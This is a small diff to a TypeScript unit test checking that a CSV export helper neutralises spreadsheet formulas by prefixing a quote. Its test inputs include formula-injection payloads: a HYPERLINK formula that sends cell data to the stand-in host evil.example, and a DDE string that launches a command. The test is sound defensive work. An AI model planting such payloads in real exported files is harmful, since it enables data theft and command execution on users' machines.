@@ -3,7 +3,7 @@ import { csvCell } from './csv.ts';
 
 describe('a CSV cell is never a formula', () => {
   it('prefixes a cell that a spreadsheet would run with a quote', () => {
-    for (const v of ['=1+1', '=HYPERLINK("http://evil.example?"&A1,"x")', '+81 90 1234 5678', '-2+3', '-cmd|\' /C calc\'!A0', '@SUM(A1)', '\t=1', '\r=1']) {
+    for (const v of ['=1+1', '=HYPERLINK("http://evil.example?"&A1,"x")', '+81 90 1234 5678', '-2+3', "-cmd|' /C calc'!A0", '@SUM(A1)', '\t=1', '\r=1']) {
       expect(csvCell(v)).toBe(`'${v}`);
     }
   });
